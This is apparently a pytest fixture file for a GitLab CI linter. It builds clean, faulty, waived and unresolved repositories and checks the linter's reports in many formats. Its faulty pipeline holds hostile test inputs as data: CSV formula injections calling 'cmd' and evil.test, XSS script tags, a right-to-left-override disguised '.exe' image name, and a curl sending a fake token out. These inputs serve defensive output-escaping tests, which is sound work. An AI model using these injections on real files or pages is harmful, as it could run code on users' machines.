"""Four repositories — clean, faulty and hostile, waived, partly unresolved — and the report of each in every format."""

from __future__ import annotations

import atexit
import json
import os
import shutil
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path
from types import SimpleNamespace

import pytest

ROOT = Path(__file__).resolve().parents[2]
EPOCH = "1796083200"  # 2026-12-01T00:00:00Z
FORMATS = {
    "html": "html", "markdown": "md", "csv": "csv", "csv-findings": "findings.csv", "csv-population": "population.csv", "csv-inventory": "inventory.csv", "json": "json", "bundle": "zip",
    "xlsx": "xlsx", "hdf": "hdf.json", "oscal": "ar.json", "oscal-component": "cd.json", "intoto": "intoto.json",
}  # fmt: skip
# Put together here, so that no scanner takes this file for a leak.
SECRET = "glpat-" + "Zx9Qw7Er5Ty3Ui1Op0As"

FAULTY = f"""\
variables:
  API_TOKEN: "{SECRET}"
stages: [build, test]
'=HYPERLINK("https://evil.test","x")':
  stage: build
  image: node:16.1
  script: ["npm ci", "curl -H 'PRIVATE-TOKEN: {SECRET}' https://x.test"]
"<script>alert(1)</script><img src=x onerror=alert(2)>":
  stage: test
  image: "docker.io/evil\\u202egpj.exe:latest"
  script: ['echo "</table></details>"']
"+cmd|' /C calc'!A0":
  stage: test
  image: python:3
  script: ["| pipes | `ticks`"]
"@SUM(1+1)*cmd":
  stage: test
  script: ["true"]
"""

WAIVED = """\
stages: [build]
legacy-build:
  stage: build
  image: node:22.11.0
  script: [npm ci]
other-build:
  stage: build
  image: $CI_REGISTRY/infrastructure/node:22.11.0
  script: [npm ci]
"""
REGISTER = """\
# the register of this project
version: 1
waivers:
  - id: W-1   # the only one
    rule: image-private-registry
    scope:
      jobs: [legacy-build]
      path: image
    reason: =vendor image cannot be mirrored before the contract change
    compensating: the digest is checked by hand
    approved_by: [a.smith]
    ticket: SEC-412
    created: 2026-11-01
    expires: 2026-12-31
"""
UNRESOLVED = """\
include:
  - project: platform/ci
    ref: 1.2.3
    file: /deploy.yml
build:
  stage: build
  image: $BUILD_IMAGE
  script: [npm ci]
"""


@cache
def program():
    """A copy of the program: evidence holds digests of its files, and nobody edits these while the tests run."""
    home = Path(tempfile.mkdtemp(prefix="cilint-"))
    atexit.register(shutil.rmtree, home, ignore_errors=True)
    for name in ("cilint", "rules"):
        shutil.copytree(ROOT / name, home / name, ignore=shutil.ignore_patterns("__pycache__"))
    return home


def run(*arguments, cwd, **environment):
    """cilint in a process of its own, at a fixed time and outside of any job of GitLab."""
    inherited = {key: value for key, value in os.environ.items() if not key.startswith(("CI_", "GITLAB_"))}
    inherited.pop("CI", None)
    return subprocess.run(
        [sys.executable, "-m", "cilint", *map(str, arguments)],
        cwd=cwd,
        env={**inherited, "PYTHONPATH": str(program()), "SOURCE_DATE_EPOCH": EPOCH, **environment},
        capture_output=True,
        text=True,
        check=False,
    )


def git(folder, *arguments, author="Dev Eloper <dev@corp.test>"):
    """A command of git in a folder, by an author."""
    name, _, mail = author.rstrip(">").partition(" <")
    identity = ["-c", f"user.name={name}", "-c", f"user.email={mail}", "-c", "commit.gpgsign=false"]
    done = subprocess.run(["git", "-C", str(folder), *identity, *arguments], check=True, capture_output=True, text=True)
    return done.stdout.strip()


def repository(folder, files):
    """A repository with one commit of these files."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    git(folder, "init", "-q", "-b", "main")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "first")
    return folder


class Made:
    """The report of one repository: its folder, and the file of each format."""

    def __init__(self, folder, files):
        self.folder = folder
        self.files = files

    def text(self, name):
        return self.files[name].read_text(encoding="utf-8")

    def json(self, name="json"):
        return json.loads(self.text(name))


def report(folder, into, *paths, **environment):
    """Every format of the report on a folder."""
    into.mkdir(parents=True, exist_ok=True)
    files = {name: into / f"evidence.{ending}" for name, ending in FORMATS.items()}
    outputs = [word for name, path in files.items() for word in ("--output", f"{name}={path}")]
    done = run("report", *paths, *outputs, cwd=folder, **environment)
    assert done.returncode in (0, 1), done.stderr
    return Made(folder, files)


@pytest.fixture(scope="session")
def made(tmp_path_factory):
    """The reports on clean, faulty, waived and unresolved input, by these words."""
    base = tmp_path_factory.mktemp("evidence")
    repositories = {
        "faulty": repository(base / "faulty", {".gitlab-ci.yml": FAULTY}),
        "waived": repository(base / "waived", {".gitlab-ci.yml": WAIVED, ".cilint-waivers.yaml": REGISTER}),
        "unresolved": repository(base / "unresolved", {".gitlab-ci.yml": UNRESOLVED}),
    }
    found = {name: report(folder, base / f"{name}-report") for name, folder in repositories.items()}
    clean = base / "clean"
    for name in ("examples", "scripts"):
        shutil.copytree(ROOT / name, clean / name)
    found["clean"] = report(repository(clean, {}), base / "clean-report", "examples/.gitlab-ci.yml")
    return found


@pytest.fixture(scope="session")
def world():
    """What the tests of this folder share."""
    return SimpleNamespace(
        run=run, git=git, repository=repository, report=report, secret=SECRET, formats=FORMATS, epoch=EPOCH, root=program(),
        faulty=FAULTY, waived=WAIVED, register=REGISTER, unresolved=UNRESOLVED,
    )  # fmt: skip


KINDS = ("clean", "faulty", "waived", "unresolved")


@pytest.fixture(params=KINDS)
def kind(request):
    return request.param


@pytest.fixture
def one(made, kind):
    """One of the reports."""
    return made[kind]
